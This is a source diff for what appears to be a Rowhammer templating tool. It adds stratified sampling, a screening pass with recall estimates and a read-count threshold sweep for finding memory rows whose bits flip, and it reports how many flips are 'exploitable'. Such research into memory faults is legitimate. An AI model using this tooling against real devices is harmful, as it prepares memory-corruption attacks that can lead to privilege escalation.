+    print("[TMPL] - estimated flips in all rows: %5.0f (95%% CI %5.0f .. %5.0f)\n", 
+            mean * N, lo * N, hi * N);
+    if (lo > 0) 
+        print("[TMPL] - kb per flip: %5.2f (95%% CI %5.2f .. %5.2f)\n", 
+                rowsize / 1024 / mean, rowsize / 1024 / hi, rowsize / 1024 / lo);
+    else if (mean > 0)
+        print("[TMPL] - kb per flip: %5.2f (95%% CI >= %5.2f)\n", 
+                rowsize / 1024 / mean, rowsize / 1024 / hi);
+}
+
+void run_stratified(struct ion_chunks &chunks, 
+                    struct template_arena &templates, 
+                    std::vector<struct pattern_t *> &patterns, 
+                    struct tmpl_config &cfg) {
+    std::vector<struct hammer_row_t> plan;
+    std::vector<struct stratum_t> strata;
+    plan_stratified(chunks, plan, strata);
+
+    plan_first_rows(plan, cfg);
+    plan_offsets(plan, cfg);
+    setup_batches(plan, cfg);
 
-                if (times_up) break;
+    /* Known weak rows (--retest) are not a random sample: they are taken out
+     * of their strata, so the estimate covers the other rows only, and are
+     * reported separately. */
+    auto known = [&cfg](const struct hammer_row_t *row) { 
+        return cfg.first_rows != NULL && cfg.first_rows->count(row->virt_row) > 0; 
+    };
+    int known_rows = 0, known_done = 0, known_flips = 0;
+    for (auto &row : plan) {
+        if (!known(&row)) continue;
+        strata[row.stratum].rows--;
+        known_rows++;
+    }
+
+    std::vector<bool> taken(plan.size());
+    size_t first = 0;
+    struct hammer_row_t *batch[TMPL_MAX_BATCH];
+    int n;
+    while ((n = next_batch(plan, first, taken, cfg.batch, batch)) > 0) {
+        size_t flips_before = templates.size();
+        release_chunks(batch, n);
+        if (!hammer_rows(batch, n, templates, patterns, cfg)) break;
+        for (int k = 0; k < n; k++) {
+            int flips = row_flips(templates, flips_before, batch[k]);
+            if (known(batch[k])) {
+                known_done++;
+                known_flips += flips;
+            } else {
+                strata[batch[k]->stratum].flips.push_back(flips);
             }
-            printf("\n");
-                
-            if (times_up) break;
         }
+    }
+
+    if (known_rows) 
+        print("[TMPL] - known weak rows: %d of %d hammered, %d flips (not part of the estimate)\n", 
+                known_done, known_rows, known_flips);
+    report_stratified(strata);
+}
 
-        if (times_up) break;
+/* Two-stage templating (--screen): most rows never flip, so we first screen
+ * all rows with cfg.screen_readcount reads per round, the two default patterns
+ * and one offset per page. Rows that flipped and their SCREEN_NEIGHBOURS
+ * neighbours on either side are the candidates, which then get the full read
+ * count, all patterns (rh-test turns on -a for --screen) and at least one
+ * offset per bank mapping (TMPL_OFFSETS_ADAPTIVE, or every 64 bytes with
+ * --brute-force). One in SCREEN_AUDIT of the other rows (a fixed, seeded
+ * choice) gets the full treatment as well: weak rows among them were missed
+ * by the screen, which gives the recall of the screening pass. The time per
+ * row of the second stage tells how long a single-stage run over all rows
+ * would have taken. */
+#define SCREEN_NEIGHBOURS 1
+#define SCREEN_AUDIT      32
 
-        /* clean */
-        ION_clean(chunk);
+void run_screened(struct ion_chunks &chunks, 
+                  struct template_arena &templates, 
+                  std::vector<struct pattern_t *> &patterns, 
+                  struct tmpl_config &cfg) {
+    std::vector<struct hammer_row_t> plan;
+    for (int chunk = 0; chunk < (int) chunks.size(); chunk++) {
+        for (int r = 0; r < ION_rows(chunks, chunk); r++) {
+            struct hammer_row_t row = { chunk, ION_row(chunks, chunk, r), ION_row_phys(chunks, chunk, r), 0, 0.0, -1 };
+            plan.push_back(row);
+        }
     }
+    plan_first_rows(plan, cfg);
+
+    /*** stage 1: screen */
+    struct tmpl_config screen = cfg;
+    screen.hammer_readcount = cfg.screen_readcount;
+    screen.offsets = TMPL_OFFSETS_PAGE;
+    screen.bandit = false;
+    screen_patterns.clear();
+    for (size_t p = 0; p < patterns.size(); p++) 
+        if (!strcmp(patterns[p]->name, "101") || !strcmp(patterns[p]->name, "010")) screen_patterns.push_back(p);
+    for (size_t p = 0; p < patterns.size() && screen_patterns.size() < 2; p++) 
+        if (std::find(screen_patterns.begin(), screen_patterns.end(), (int) p) == screen_patterns.end()) 
+            screen_patterns.push_back(p);
+    print("[TMPL - screen] Stage 1: screening %d rows with %d reads per round and pattern%s", 
+            (int) plan.size(), screen.hammer_readcount, screen_patterns.size() > 1 ? "s" : "");
+    for (auto p : screen_patterns) print(" %s", patterns[p]->name);
+    print("\n");
+
+    plan_offsets(plan, screen);
+    setup_batches(plan, screen);
+
+    uint64_t t_screen = get_ns();
+    size_t templates_before = templates.size();
+    std::vector<bool> taken(plan.size());
+    std::vector<bool> screened(plan.size());
+    std::map<uintptr_t, int> weak;          // virtual row -> chunk, of the rows that flipped
+    size_t first = 0;
+    struct hammer_row_t *batch[TMPL_MAX_BATCH];
+    int n;
+    while ((n = next_batch(plan, first, taken, screen.batch, batch)) > 0) {
+        size_t flips_before = templates.size();
+        release_chunks(batch, n);
+        if (!hammer_rows(batch, n, templates, patterns, screen)) break;
+        for (int k = 0; k < n; k++) {
+            screened[batch[k] - plan.data()] = true;
+            if (row_flips(templates, flips_before, batch[k])) weak[batch[k]->virt_row] = batch[k]->chunk;
+        }
+    }
+    screen_patterns.clear();
+    t_screen = get_ns() - t_screen;
+    int screen_flips = templates.size() - templates_before;
+
+    /*** stage 2: candidates and the audit sample */
+    std::vector<struct hammer_row_t> stage;
+    std::vector<bool> audit;
+    int screened_rows = 0, other_rows = 0;
+    for (size_t i = 0; i < plan.size(); i++) {
+        if (!screened[i]) continue;
+        screened_rows++;
+        bool candidate = false;
+        for (int d = -SCREEN_NEIGHBOURS; d <= SCREEN_NEIGHBOURS; d++) {
+            auto it = weak.find(plan[i].virt_row + (intptr_t) d * rowsize);
+            if (it != weak.end() && it->second == plan[i].chunk) candidate = true;
+        }
+        if (!candidate) {
+            other_rows++;
+            if (splitmix64(pattern_seed ^ plan[i].virt_row) % SCREEN_AUDIT) continue;
+        }
+        stage.push_back(plan[i]);
+        audit.push_back(!candidate);
+    }
+    int audit_rows = std::count(audit.begin(), audit.end(), true);
+    print("[TMPL - screen] Stage 1: %d of %d rows screened in %.1f seconds, %d flipped (%d flips)\n", 
+            screened_rows, (int) plan.size(), t_screen / 1e9, (int) weak.size(), screen_flips);
+    struct tmpl_config full = cfg;
+    if (full.offsets != TMPL_OFFSETS_ALL) full.offsets = TMPL_OFFSETS_ADAPTIVE;
+    print("[TMPL - screen] Stage 2: %d candidate rows and %d audit rows with %d reads per round, %d patterns and %s\n", 
+            (int) stage.size() - audit_rows, audit_rows, cfg.hammer_readcount, (int) patterns.size(), 
+            full.offsets == TMPL_OFFSETS_ALL ? "every 64 bytes" : "one offset per bank mapping");
+    pattern_stats.assign(patterns.size(), pattern_stats_t());   // screening rounds would skew the bandit
+    plan_offsets(stage, full);
+    setup_batches(stage, full);
+
+    uint64_t t_full = get_ns();
+    taken.assign(stage.size(), false);
+    first = 0;
+    int full_rows = 0, weak_candidates = 0, audited = 0, weak_audited = 0;
+    while ((n = next_batch(stage, first, taken, full.batch, batch)) > 0) {
+        size_t flips_before = templates.size();
+        release_chunks(batch, n);
+        if (!hammer_rows(batch, n, templates, patterns, full)) break;
+        for (int k = 0; k < n; k++) {
+            bool is_weak = row_flips(templates, flips_before, batch[k]) || weak.count(batch[k]->virt_row);
+            full_rows++;
+            if (audit[batch[k] - stage.data()]) {
+                audited++;
+                weak_audited += is_weak;
+            } else {
+                weak_candidates += is_weak;
+            }
+        }
+    }
+    t_full = get_ns() - t_full;
+
+    /* a single stage would hammer every screened row like stage 2 does */
+    print("[TMPL - screen] Stage 2: %d rows in %.1f seconds, %d new flips\n", 
+            full_rows, t_full / 1e9, (int) (templates.size() - templates_before) - screen_flips);
+    if (full_rows > 0) {
+        double single_ns = (double) t_full / full_rows * screened_rows;
+        print("[TMPL - screen] - speedup over a single stage: %.1fx (%.1f seconds instead of an estimated %.1f)\n", 
+                single_ns / (t_screen + t_full), (t_screen + t_full) / 1e9, single_ns / 1e9);
+    }
+    if (audited > 0) {
+        double missed = (double) weak_audited / audited * other_rows;
+        double recall = weak_candidates + missed > 0 ? weak_candidates / (weak_candidates + missed) : 1.0;
+        print("[TMPL - screen] - recall of the screen: %5.1f%% (%d weak candidate rows, %d of %d audited rows weak, ~%.0f weak rows missed)\n", 
+                recall * 100, weak_candidates, weak_audited, audited, missed);
+    } else {
+        print("[TMPL - screen] - recall of the screen: unknown, no rows audited\n");
+    }
+}
+
+/* Activation threshold sweep (--sweep): how many reads a row needs before it
+ * first flips. A stratified sample of cfg.sweep_rows rows (see
+ * plan_stratified()) is hammered at read counts cfg.sweep_min, twice that,
+ * and so on up to cfg.sweep_max, all with the same allocation and patterns.
+ * After each point we report the cumulative number of flips and of rows that
+ * flipped. A row that first flips at count c did not flip at c / 2, so a
+ * binary search between the two narrows its threshold down to SWEEP_RESOLUTION
+ * of c; a row that flips at cfg.sweep_min already is not searched below it.
+ * Known flips count during the search: a row flips at a read count if any
+ * victim byte differs afterwards. */
+#define SWEEP_RESOLUTION 16     // search until the interval is c / SWEEP_RESOLUTION
+
+struct sweep_row_t {
+    struct hammer_row_t *row;
+    int lo;          // highest read count that did not flip the row
+    int hi;          // lowest read count that did, 0 if none
+};
+
+/* hammer <row> at <readcount>; returns 1 if it flipped, 0 if not, -1 if the deadline expired */
+static int sweep_hammer(struct hammer_row_t *row, int readcount, 
+                        struct template_arena &templates, 
+                        std::vector<struct pattern_t *> &patterns, 
+                        struct tmpl_config &cfg) {
+    struct tmpl_config point = cfg;
+    point.hammer_readcount = readcount;
+    victim_diffs = 0;
+    if (!hammer_rows(&row, 1, templates, patterns, point)) return -1;
+    return victim_diffs > 0;
+}
+
+void run_sweep(struct ion_chunks &chunks, 
+               struct template_arena &templates, 
+               std::vector<struct pattern_t *> &patterns, 
+               struct tmpl_config &cfg) {
+    std::vector<struct hammer_row_t> plan;
+    std::vector<struct stratum_t> strata;
+    plan_stratified(chunks, plan, strata);
+    if ((int) plan.size() > cfg.sweep_rows) plan.resize(cfg.sweep_rows);
+
+    struct tmpl_config sweep = cfg;
+    sweep.batch = 1;
+    sweep.bandit = false;
+    plan_offsets(plan, sweep);
+    setup_batches(plan, sweep);
+
+    std::vector<int> points;
+    for (int64_t c = cfg.sweep_min; c < cfg.sweep_max; c *= 2) points.push_back(c);
+    points.push_back(cfg.sweep_max);
+    print("[SWEEP] %d rows at %d read counts from %d to %d\n", 
+            (int) plan.size(), (int) points.size(), cfg.sweep_min, cfg.sweep_max);
+
+    std::vector<struct sweep_row_t> rows;
+    for (auto &row : plan) rows.push_back({ &row, 0, 0 });
+
+    /* the series: every point hammers every row, so flips accumulate */
+    bool stopped = false;
+    std::vector<std::pair<int, int>> curve;     // per point: rows flipped, flips
+    for (size_t p = 0; p < points.size() && !stopped; p++) {
+        for (auto &r : rows) {
+            int flipped = sweep_hammer(r.row, points[p], templates, patterns, sweep);
+            if (flipped < 0) {
+                stopped = true;
+                break;
+            }
+            if (flipped && !r.hi) r.hi = points[p];
+            if (!flipped && !r.hi) r.lo = points[p];
+        }
+        if (stopped) break;
+        int weak = 0;
+        for (auto &r : rows) weak += r.hi > 0;
+        curve.push_back(std::make_pair(weak, (int) templates.size()));
+        print("[SWEEP] point %2d: %8d reads | rows flipped: %4d of %d | flips: %d\n", 
+                (int) p, points[p], weak, (int) rows.size(), (int) templates.size());
+    }
+
+    /* the binary search per weak row */
+    for (auto &r : rows) {
+        if (stopped) break;
+        if (!r.hi || !r.lo) continue;      // no flip, or already at cfg.sweep_min
+        while (r.hi - r.lo > r.hi / SWEEP_RESOLUTION) {
+            int mid = r.lo + (r.hi - r.lo) / 2;
+            int flipped = sweep_hammer(r.row, mid, templates, patterns, sweep);
+            if (flipped < 0) {
+                stopped = true;
+                break;
+            }
+            if (flipped) r.hi = mid;
+            else         r.lo = mid;
+        }
+    }
+
+    /* the curves */
+    print("[SWEEP] Flips vs. read count%s\n", stopped ? " (stopped early)" : "");
+    print("[SWEEP] %10s %12s %12s\n", "reads", "rows", "flips");
+    for (size_t p = 0; p < curve.size(); p++) 
+        print("[SWEEP] %10d %12d %12d\n", points[p], curve[p].first, curve[p].second);
+
+    std::vector<struct sweep_row_t *> weak;
+    for (auto &r : rows) 
+        if (r.hi) weak.push_back(&r);
+    std::sort(weak.begin(), weak.end(), 
+            [](const struct sweep_row_t *a, const struct sweep_row_t *b) { return a->hi < b->hi; });
+    print("[SWEEP] Minimum read count per row (rows flipped at or below)\n");
+    print("[SWEEP] %10s %12s %18s %12s\n", "reads", "rows", "virtual row", "no flip at");
+    for (size_t i = 0; i < weak.size(); i++) 
+        print("[SWEEP] %10d %12d %18p %12d\n", weak[i]->hi, (int) i + 1, (void *) weak[i]->row->virt_row, weak[i]->lo);
+    if (!weak.empty()) 
+        print("[SWEEP] - lowest threshold: %d reads | median: %d reads | %d of %d rows never flipped\n", 
+                weak[0]->hi, weak[weak.size() / 2]->hi, (int) (rows.size() - weak.size()), (int) rows.size());
+    else
+        print("[SWEEP] - no row flipped at up to %d reads\n", cfg.sweep_max);
+}
+
+void TMPL_run(struct ion_chunks &chunks, 
+              struct template_arena &templates, 
+              std::vector<struct pattern_t *> &patterns, 
+              struct tmpl_config &cfg) {
+    
+    bytes_hammered = 0;
+    rows_hammered = 0;
+    run_preempted = 0;
+    run_rounds = 0;
+    readtimes.clear();
+    pattern_stats.assign(patterns.size(), pattern_stats_t());
+    bandit_slots = 0;
+    bandit_explored = 0;
+    memset(&perf_total, 0, sizeof(perf_total));
+    perf_reads = 0;
+    cache_ns = 0;
+    run_chunks   = &chunks;
+    run_patterns = &patterns;
+    run_cfg      = &cfg;
+
+    uint64_t budget_ns = DL_remaining_ns();
+    if (budget_ns != UINT64_MAX) 
+        printf("[TMPL] Time budget: %.1f seconds\n", budget_ns / 1e9);
+
+    int64_t bytes_allocated = 0;
+    for (auto len : chunks.len) {
+        bytes_allocated += len;
+    }
+    
+    start_time = time(NULL);
+    print("[TMPL] - Bytes allocated: %lld (%d MB)\n", (long long) bytes_allocated, (int) (bytes_allocated / 1024 / 1024));
+    print("[TMPL] - Time: %ld\n", (long) start_time);
+    print("[TMPL] - Start templating\n");
+
+    retention_cells.clear();
+    retention_excluded = 0;
+    if (cfg.retention) 
+        retention_pass(chunks, patterns, cfg);
+
+    if (cfg.sweep_max) 
+        run_sweep(chunks, templates, patterns, cfg);
+    else if (cfg.screen_readcount) 
+        run_screened(chunks, templates, patterns, cfg);
+    else if (cfg.stratified) 
+        run_stratified(chunks, templates, patterns, cfg);
+    else
+        run_sequential(chunks, templates, patterns, cfg);
 
     int median_readtime = compute_median(readtimes);
+    update_metrics(templates, get_exploitable_flip_count(templates), median_readtime, compute_median(row_stats.readtimes));
 
     printf("\n[TMPL] Done templating\n");
     int flips = templates.size();
-    print("[TMPL] - bytes hammered: %d (%d MB)\n", bytes_hammered, bytes_hammered / 1024 / 1024);
+    print("[TMPL] - bytes hammered: %lld (%d MB)\n", (long long) bytes_hammered, (int) (bytes_hammered / 1024 / 1024));
     print("[TMPL] - median readtime: %d\n", median_readtime);
     print("[TMPL] - unique flips: %d (1-to-0: %d / 0-to-1: %d)\n", flips,
             get_direction_flip_count(templates, ONE_TO_ZERO),
@@ -425,11 +1690,31 @@ void TMPL_run(std::vector<struct ion_data *> &chunks,
     int exploitable_flips = get_exploitable_flip_count(templates);
     print("[TMPL] - exploitable flips: %d\n", exploitable_flips);
     if (exploitable_flips > 0) {
-        print("[TMPL] - first exploitable flip found after: %d seconds\n", get_first_exploitable_flip(templates)->found_at - start_time);
+        print("[TMPL] - first exploitable flip found after: %d seconds\n", (int) (get_first_exploitable_flip(templates)->found_at - start_time));
 
         double percentage_exploitable = (double) exploitable_flips / (double) flips * 100.0;
         printf("[TMPL] - percentage of flips that are exploitable: %5.2f\n", percentage_exploitable);
     }
-    print("[TMPL] - time spent: %d seconds\n", time(NULL) - start_time);
+    print("[TMPL] - time spent: %d seconds\n", (int) (time(NULL) - start_time));
+    if (cfg.retention) 
+        print("[TMPL] - retention cells: %d | differences in retention cells not counted as flips: %d\n", 
+                (int) retention_cells.size(), retention_excluded);
+    if (run_rounds > 0) 
+        print("[TMPL] - preempted rounds: %d of %d (%5.2f%%)\n", run_preempted, run_rounds, run_preempted * 100.0 / run_rounds);
+    if (perf_enabled) 
+        PERF_print("[TMPL] - perf", &perf_total, perf_reads);
+    if (cache_maintenance) 
+        print("[TMPL] - cache maintenance: %.1f ms (%5.2f%% of the time spent)\n", 
+                cache_ns / 1e6, cache_ns / 1e7 / std::max(1, (int) (time(NULL) - start_time)));
+
+    if (cfg.bandit && bandit_slots > 0) 
+        print("[TMPL] - pattern scheduler: %llu slots | explored: %llu (%5.2f%%)\n", 
+                (unsigned long long) bandit_slots, (unsigned long long) bandit_explored, bandit_explored * 100.0 / bandit_slots);
+    for (size_t p = 0; p < patterns.size(); p++) {
+        struct pattern_stats_t &stats = pattern_stats[p];
+        print("[TMPL] - pattern %s: rounds: %d | flips: %d | flips per 1000 rounds: %7.2f | explored: %d\n", 
+                patterns[p]->name, stats.rounds, stats.flips, 
+                stats.rounds ? stats.flips * 1000.0 / stats.rounds : 0.0, stats.explored);
+    }
 }
 